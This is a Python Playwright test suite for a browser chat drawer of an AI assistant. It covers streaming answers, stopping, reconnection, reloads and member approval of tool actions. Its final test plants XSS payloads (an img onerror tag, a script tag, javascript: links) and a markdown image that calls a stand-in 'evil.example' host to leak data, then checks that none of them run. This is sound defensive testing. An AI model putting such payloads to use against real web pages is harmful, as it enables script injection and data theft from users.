"""Asking the assistant in a browser: what is shown while it answers, stops, asks back and fails."""

import re

from playwright.sync_api import Page, Route, expect

from support.drawer import (
    LIMITS,
    USAGE,
    ask,
    call,
    drawer,
    end,
    final,
    focused,
    open_drawer,
    result,
    said,
    token,
)
from support.processes import wait_until
from support.widget_page import WidgetPage

PLANTED = "<img src=x onerror='window.pwned=1'><script>window.pwned=1</script>"
REJECT = re.compile("Don.t allow")


def test_nothing_is_asked_for_until_somebody_opens_it(page: Page, served: WidgetPage) -> None:
    expect(page.get_by_role("button", name="Ask the assistant")).to_be_visible()

    assert (served.tokens, served.chat.asked) == ([], [])


def test_one_watches_the_assistant_work_and_gets_its_answer(page: Page, served: WidgetPage) -> None:
    turn = ask(page, served)
    expect(drawer(page).get_by_text("Working …")).to_be_visible()
    plan = [{"text": "Draw a chart", "status": "running"}]
    turn.tell(LIMITS, {"type": "plan", "steps": plan}, call())
    expect(drawer(page).get_by_text("Generate chart")).to_be_visible()
    expect(drawer(page).get_by_text("running", exact=True)).to_be_visible()

    link = {"kind": "chart", "id": 7, "title": "Sales by year", "path": "/explore/?slice_id=7"}
    table = {"columns": ["year", "sales"], "rows": [[2003, 3.5], [2004, 4.7]], "total_rows": 40}
    turn.tell(result(links=[link], table=table), token("Sales are **"), token("up**."))
    expect(drawer(page).locator("strong")).to_have_text("up")
    turn.tell(final("Sales are **up** by 34 %."), USAGE, end())

    expect(said(page, "Sales are up by 34 %.")).to_be_visible()
    expect(drawer(page).get_by_text("1,500 tokens")).to_be_visible()
    expect(drawer(page).get_by_text("2 of 40 rows")).to_be_visible()
    expect(drawer(page).get_by_role("heading", level=1)).to_have_text("Sales by year?")
    expect(drawer(page).get_by_role("img", name="Sales by year")).to_be_visible()
    assert "GET /api/v1/chart/7/cache_screenshot/" in served.others


def test_a_link_opens_in_the_page_and_the_conversation_is_still_there(
    page: Page, served: WidgetPage
) -> None:
    served.has_pictures = False
    turn = ask(page, served)
    link = {"kind": "chart", "id": 7, "title": "Sales by year", "path": "/explore/?slice_id=7"}
    turn.tell(LIMITS, call(), result(links=[link]), final("Done."), end())
    served.chat.threads["thr_1"]["messages"].append(
        {"id": "m1", "role": "assistant", "text": "Done.", "tool_calls": []}
    )

    drawer(page).get_by_role("link", name="Sales by year").click()

    page.wait_for_url("**/explore/?slice_id=7")
    expect(said(page, "Done.")).to_be_visible()


def test_a_stream_that_is_cut_goes_on_where_it_was(page: Page, served: WidgetPage) -> None:
    turn = ask(page, served)
    turn.tell(LIMITS, token("one "), token("two "))
    expect(said(page, "one two")).to_be_visible()

    turn.cut()
    wait_until(lambda: len(served.chat.last_ids) == 1, what="a new connection")
    turn.tell(token("three"))
    expect(said(page, "one two three")).to_be_visible()
    turn.cut()
    turn.tell(final("one two three."), end())

    expect(said(page, "one two three.")).to_be_visible()
    assert served.chat.last_ids == ["3", "4"]
    assert len(served.chat.turns) == 1


def test_a_reload_in_mid_turn_shows_all_of_it_once(page: Page, served: WidgetPage) -> None:
    turn = ask(page, served)
    turn.tell(LIMITS, call(), result(), token("Half "))
    expect(said(page, "Half")).to_be_visible()
    past = {"id": "c1", "name": "generate_chart", "title": "Generate chart", "arguments": {}}
    kept = {"tool_calls": [{**past, "status": "done", "text": "made", "links": [], "table": None}]}
    served.chat.threads["thr_1"]["messages"].append(
        {"id": "m0", "role": "assistant", "text": "", **kept}
    )

    page.reload()
    expect(said(page, "Half")).to_be_visible()
    turn.tell(token("of it."), end())

    expect(said(page, "Half of it.")).to_be_visible()
    expect(drawer(page).locator("overset-message[from=member]")).to_have_count(1)
    expect(drawer(page).get_by_text("Generate chart")).to_have_count(1)
    assert served.chat.last_ids == [None]


def test_stop_really_stops(page: Page, served: WidgetPage) -> None:
    turn = ask(page, served)
    turn.tell(LIMITS, call())
    drawer(page).get_by_role("button", name="Stop").click()

    wait_until(lambda: turn.is_stopped, what="the turn told to stop")
    expect(drawer(page).get_by_role("button", name="Stopping …")).to_be_disabled()
    assert focused(page) == "Your question"
    turn.tell(end("stopped"))

    expect(drawer(page).get_by_text("Stopped.")).to_be_visible()
    expect(drawer(page).get_by_text("interrupted")).to_be_visible()
    assert ask(page, served, "And now?").asked["message"] == "And now?"


def test_a_stop_before_the_turn_has_begun_is_not_forgotten(page: Page, served: WidgetPage) -> None:
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    page.route("**/threads", hold)
    open_drawer(page)
    page.get_by_label("Your question").fill("Sales?")
    with page.expect_request("**/threads"):
        page.keyboard.press("Enter")

    drawer(page).get_by_role("button", name="Stop").click()
    expect(drawer(page).get_by_role("button", name="Stopping …")).to_be_disabled()
    held[0].continue_()

    turn = served.chat.wait_for_turn()
    wait_until(lambda: turn.is_stopped, what="the turn told to stop")


def test_a_change_waits_for_the_members_word(page: Page, served: WidgetPage) -> None:
    turn = ask(page, served)
    turn.tell(LIMITS, call(approval="Saves the chart “Sales”."), end("approval"))
    expect(drawer(page).get_by_text("Saves the chart “Sales”.")).to_be_visible()

    drawer(page).get_by_label("for the rest of this conversation").check()
    drawer(page).get_by_role("button", name="Allow", exact=True).click()

    turn = served.chat.wait_for_turn(2)
    decided = {"tool_call_id": "c1", "verdict": "approve", "note": None}
    assert turn.asked == {"decisions": [decided], "allow_tools": ["generate_chart"]}
    turn.tell({**LIMITS, "turn_id": "trn_2"}, call(), result(), final("Saved."), end())
    expect(said(page, "Saved.")).to_be_visible()
    expect(drawer(page).get_by_role("button", name="Allow", exact=True)).to_have_count(0)


def test_a_question_about_a_change_survives_a_reload(page: Page, served: WidgetPage) -> None:
    turn = ask(page, served)
    waiting = call(approval="Deletes <b>everything</b>.")
    turn.tell(LIMITS, waiting, end("approval"))
    served.chat.threads["thr_1"]["pending"] = [waiting]

    page.reload()
    expect(drawer(page).get_by_text("Deletes <b>everything</b>.")).to_be_visible()
    drawer(page).get_by_role("button", name=REJECT).click()

    turn = served.chat.wait_for_turn(2)
    assert turn.asked["decisions"][0]["verdict"] == "reject"


def test_two_changes_are_decided_one_by_one_and_told_together(
    page: Page, served: WidgetPage
) -> None:
    turn = ask(page, served)
    first, second = call("c1", approval="Saves one."), call("c2", approval="Saves two.")
    turn.tell(LIMITS, first, second, end("approval"))

    drawer(page).get_by_role("button", name="Allow", exact=True).first.click()
    expect(drawer(page).get_by_text("Answer the other question too.")).to_be_visible()
    drawer(page).get_by_role("button", name=REJECT).click()

    decisions = served.chat.wait_for_turn(2).asked["decisions"]
    assert [one["verdict"] for one in decisions] == ["approve", "reject"]


def test_a_tool_that_is_allowed_for_the_conversation_is_asked_about_once(
    page: Page, served: WidgetPage
) -> None:
    turn = ask(page, served)
    waiting = [call(f"c{number}", approval="Saves one.") for number in range(3)]
    turn.tell(LIMITS, *waiting, end("approval"))

    drawer(page).get_by_role("checkbox").first.check()
    drawer(page).get_by_role("button", name="Allow", exact=True).first.click()

    asked = served.chat.wait_for_turn(2).asked
    assert [one["verdict"] for one in asked["decisions"]] == ["approve"] * 3
    assert asked["allow_tools"] == ["generate_chart"]


def test_saying_what_to_do_instead_refuses_the_change(page: Page, served: WidgetPage) -> None:
    turn = ask(page, served)
    turn.tell(LIMITS, call(approval="Saves the chart."), end("approval"))
    expect(drawer(page).get_by_text("Saves the chart.")).to_be_visible()

    page.get_by_label("Your question").fill("Only describe it.")
    page.keyboard.press("Enter")

    decisions = served.chat.wait_for_turn(2).asked["decisions"]
    assert decisions == [{"tool_call_id": "c1", "verdict": "reject", "note": "Only describe it."}]


def test_no_tool_is_allowed_for_a_conversation_where_an_administrator_forbids_it(
    page: Page, served: WidgetPage
) -> None:
    served.chat.approval = "always"
    turn = ask(page, served)
    turn.tell(LIMITS, call(approval="Saves the chart."), end("approval"))

    expect(drawer(page).get_by_role("button", name="Allow", exact=True)).to_be_enabled()
    expect(drawer(page).get_by_role("checkbox")).to_have_count(0)


def test_a_warning_is_shown_while_the_turn_goes_on(page: Page, served: WidgetPage) -> None:
    turn = ask(page, served)
    warning = {"type": "warning", "code": "time_ends", "detail": "30 seconds are left."}
    turn.tell(LIMITS, warning)

    expect(drawer(page).get_by_text("30 seconds are left.")).to_be_visible()
    expect(drawer(page).get_by_role("button", name="Stop")).to_be_enabled()


def test_what_somebody_planted_in_data_titles_and_answers_does_nothing(
    page: Page, served: WidgetPage
) -> None:
    foreign: list[str] = []
    page.on("request", lambda one: foreign.append(one.url) if "evil" in one.url else None)
    turn = ask(page, served, PLANTED)
    link = {"kind": "chart", "id": 7, "title": PLANTED, "path": "javascript:window.pwned=1"}
    table = {"columns": [PLANTED], "rows": [[PLANTED]], "total_rows": 1}
    markdown = f"{PLANTED}\n\n![x](https://evil.example/?leak) [y](javascript:window.pwned=1)"
    turn.tell(
        LIMITS,
        {"type": "plan", "steps": [{"text": PLANTED, "status": "running"}]},
        call(title=PLANTED, arguments={PLANTED: PLANTED}),
        result(text=PLANTED, links=[link], table=table),
        {"type": "warning", "code": "x", "detail": PLANTED},
        call("c2", approval=PLANTED, title=PLANTED),
        final(markdown),
        end("approval"),
    )
    expect(drawer(page).get_by_text("Allow", exact=True)).to_be_visible()
    drawer(page).get_by_role("button", name="Conversations").click()
    listed = drawer(page).locator("overset-threads")
    expect(listed.get_by_text(PLANTED[:20]).first).to_be_visible()

    assert page.evaluate("window.pwned") is None
    assert foreign == []
    assert page.locator("img").count() == 0
